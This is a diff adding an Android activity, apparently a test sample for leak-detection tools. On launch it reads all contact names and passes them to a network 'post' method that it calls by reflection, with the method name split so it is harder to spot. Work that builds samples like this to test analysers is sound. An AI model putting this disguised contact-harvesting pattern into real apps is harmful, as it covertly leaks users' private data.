@@ -1,0 +1,49 @@
+package com.example.flows.reflection;
+
+import android.accounts.*;
+import android.app.*;
+import android.content.*;
+import android.content.pm.*;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.*;
+import android.net.wifi.*;
+import android.os.*;
+import android.provider.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import org.json.*;
+
+/** The posting method is called by its name. */
+public class MainActivity extends Activity {
+    @Override
+    public void onCreate(Bundle state) {
+        super.onCreate(state);
+        try {
+            Class<?> type = Class.forName("com.example.flows.reflection.Net");
+            java.lang.reflect.Method method = type.getDeclaredMethod("po" + "st", String.class);
+            method.invoke(null, contacts());
+        } catch (Exception e) {
+            finish();
+        }
+    }
+
+    String contacts() {
+        StringBuilder names = new StringBuilder();
+        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
+        while (cursor.moveToNext()) {
+            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
+        }
+        cursor.close();
+        return names.toString();
+    }
+}
